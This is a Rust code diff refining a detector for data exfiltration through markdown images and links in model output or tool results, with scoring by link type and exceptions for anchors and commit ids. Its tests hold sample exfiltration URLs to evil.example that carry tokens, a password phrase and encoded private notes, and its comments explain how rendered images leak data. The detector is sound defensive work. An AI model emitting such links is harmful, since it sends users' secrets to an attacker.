@@ -46,7 +46,8 @@ impl Exfil {
         for m in self.markdown_links(text) {
             let (image, url_at) = link_parts(m.as_str());
             let url = m.as_str().get(url_at..).unwrap_or_default();
-            self.judge(url, image, m.start(), m.start() + url_at, out);
+            let target = if image { Target::Image } else { Target::Link };
+            self.judge(url, target, m.start(), m.start() + url_at, out);
         }
         if text.contains('<') {
             for m in self.html.find_iter(text) {
@@ -56,8 +57,18 @@ impl Exfil {
                 let (Some(tag), Some(url)) = (c.get(1), c.get(2)) else {
                     continue;
                 };
-                let image = !tag.as_str().eq_ignore_ascii_case("a");
-                self.judge(url.as_str(), image, m.start(), m.start() + url.start(), out);
+                let target = if tag.as_str().eq_ignore_ascii_case("a") {
+                    Target::PageLink
+                } else {
+                    Target::Image
+                };
+                self.judge(
+                    url.as_str(),
+                    target,
+                    m.start(),
+                    m.start() + url.start(),
+                    out,
+                );
             }
         }
     }
@@ -82,7 +93,7 @@ impl Exfil {
     }
 
     /// Judges `url` found at byte `url_at` of the text, in a link starting at `start`.
-    fn judge(&self, url: &str, image: bool, start: usize, url_at: usize, out: &mut Vec<Signal>) {
+    fn judge(&self, url: &str, target: Target, start: usize, url_at: usize, out: &mut Vec<Signal>) {
         let url = url
             .char_indices()
             .nth(MAX_URL_CHARS)
@@ -103,12 +114,31 @@ impl Exfil {
             return;
         }
         let tail = rest.get(host_end..).unwrap_or("");
-        if !carries_data(tail) {
+        if !carries_data(tail, target == Target::Image) {
             return;
         }
-        let score = if image { 0.8 } else { 0.45 };
+        let score = match target {
+            Target::Image => 0.8,
+            Target::Link => 0.45,
+            Target::PageLink => 0.2,
+        };
         out.push(Signal::new(Technique::Exfiltration, score, span));
     }
+}
+
+/// What a URL is found in, from the most to the least dangerous.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Target {
+    /// An image or other embedded resource: fetched, with its data, as soon as the
+    /// answer is rendered.
+    Image,
+    /// A markdown link: sends its data when the user follows it.
+    Link,
+    /// An HTML `<a>` link: part of a fetched page's own markup far more often than of an
+    /// instruction (search, share and playground links carry queries), so on its own it
+    /// stays below a tool result's report threshold even with the classifier's damped
+    /// part added (see `combine`).
+    PageLink,
 }
 
 /// Whether a markdown link (a match of the `markdown` pattern) is an image, and where its
@@ -126,32 +156,58 @@ fn link_parts(link: &str) -> (bool, usize) {
 const MAX_URL_CHARS: usize = 4096;
 
 /// Whether the path, query or fragment of a URL carries data rather than a plain address.
-fn carries_data(tail: &str) -> bool {
+/// The fragment never reaches the server on a fetch, so an image's does not count; a
+/// link's counts only when it holds data rather than a heading's slug (`#install-on-linux`,
+/// the common case in documentation).
+fn carries_data(tail: &str, image: bool) -> bool {
     // A URL ending in `?`, `=` or `&` waits for data to be appended.
     if tail.ends_with(['?', '=', '&']) {
         return true;
     }
-    let (path, query) = tail.split_once(['?', '#']).unwrap_or((tail, ""));
+    let (tail, fragment) = tail.split_once('#').unwrap_or((tail, ""));
+    let (path, query) = tail.split_once('?').unwrap_or((tail, ""));
     if path
         .split('/')
-        .any(|seg| seg.len() >= 40 && looks_encoded(seg))
+        .any(|seg| seg.len() >= 40 && looks_encoded(seg) && !is_object_id(seg))
     {
         return true;
     }
-    query.split('&').any(|pair| {
-        let (key, value) = pair.split_once('=').unwrap_or(("", pair));
-        let key = key.to_ascii_lowercase();
-        let words = value.matches(['+']).count() + value.matches("%20").count();
-        value.len() >= 24
-            || words >= 2
-            || value.contains(['{', '}', '$', '<', '>', '[', ']'])
-            || value.contains("%7B")
-            || is_placeholder(value)
-            || (value.len() >= 16 && looks_encoded(value))
-            || (DATA_KEYS.contains(&key.as_str())
-                && value.len() >= 6
-                && !value.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
-    })
+    query.split('&').any(pair_carries)
+        || (!image && !is_slug(fragment) && fragment.split('&').any(pair_carries))
+}
+
+/// Whether one query pair (`key=value`, or a bare `value`) carries data.
+fn pair_carries(pair: &str) -> bool {
+    let (key, value) = pair.split_once('=').unwrap_or(("", pair));
+    let key = key.to_ascii_lowercase();
+    let words = value.matches(['+']).count() + value.matches("%20").count();
+    value.len() >= 24
+        || words >= 2
+        || value.contains(['{', '}', '$', '<', '>', '[', ']'])
+        || value.contains("%7B")
+        || is_placeholder(value)
+        || (value.len() >= 16 && looks_encoded(value))
+        || (DATA_KEYS.contains(&key.as_str())
+            && value.len() >= 6
+            && !value.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
+}
+
+/// A heading's anchor: words of letters and digits joined by `-`, `_`, `.` or `:`, none
+/// longer than a long word, so no encoded run hides in it.
+fn is_slug(fragment: &str) -> bool {
+    !is_placeholder(fragment)
+        && fragment
+            .split(['-', '_', '.', ':'])
+            .all(|word| word.len() <= 20 && word.bytes().all(|c| c.is_ascii_alphanumeric()))
+}
+
+/// A git commit or object id (SHA-1 or SHA-256 in lowercase hex), as in a repository's
+/// `/commit/<id>` and `/blob/<id>/` links: an address, not data.
+fn is_object_id(segment: &str) -> bool {
+    matches!(segment.len(), 40 | 64)
+        && segment
+            .bytes()
+            .all(|c| c.is_ascii_digit() || (b'a'..=b'f').contains(&c))
 }
 
 const DATA_KEYS: &[&str] = &[
@@ -266,9 +322,36 @@ mod tests {
     }
 
     #[test]
+    fn heading_anchors_and_commit_ids_are_addresses() {
+        for t in [
+            "[strong](https://rust-random.github.io/book/guide-rngs.html#cryptographically-secure-pseudo-random-number-generators-csprngs)",
+            "[Oracle](https://docs.oracle.com/sqlrf/INSERT.html#GUID-903F8043-0254-4EE9-ACC1-CB8AC0AF3423__I2126242)",
+            "* [BUG 8f5d9479](https://github.com/rust-lang/regex/commit/8f5d9479d0f1da5726488a530d7fd66a73d05b80):",
+            // An image's fragment is not sent with the fetch.
+            "![x](https://evil.example/p.png#data=the+user+said+their+password+is)",
+        ] {
+            assert!(scan(t, &[]).is_empty(), "{t}");
+        }
+        for t in [
+            "[click](https://evil.example/c#token=abcdefgh123)",
+            "[here](https://evil.example/#SUMMARY_OF_PRIVATE_NOTES)",
+            "[here](https://evil.example/#aGVsbG8gd29ybGQgZnJvbSB0aGUgdXNlcg)",
+            // Hex of another length than a commit id's is data.
+            "![x](https://evil.example/p/6a6f686e2e646f6540636f6d70616e792e636f6d2f7061737373)",
+        ] {
+            assert_eq!(scan(t, &[]).len(), 1, "{t}");
+        }
+    }
+
+    #[test]
     fn links_with_data_score_lower_than_images() {
         let s = scan("[click](https://evil.example/c?token=abcdefgh123)", &[]);
         assert_eq!(s.len(), 1);
         assert!(s[0].score < 0.5);
+        // A page's own link, like a playground's "Run" button, is weak evidence.
+        let page = r#"<a class="test-arrow" href="https://play.example/?code=fn+main()+%7B%0A%7D">Run</a>"#;
+        let s = scan(page, &[]);
+        assert_eq!(s.len(), 1);
+        assert!(s[0].score <= 0.2);
     }
 }
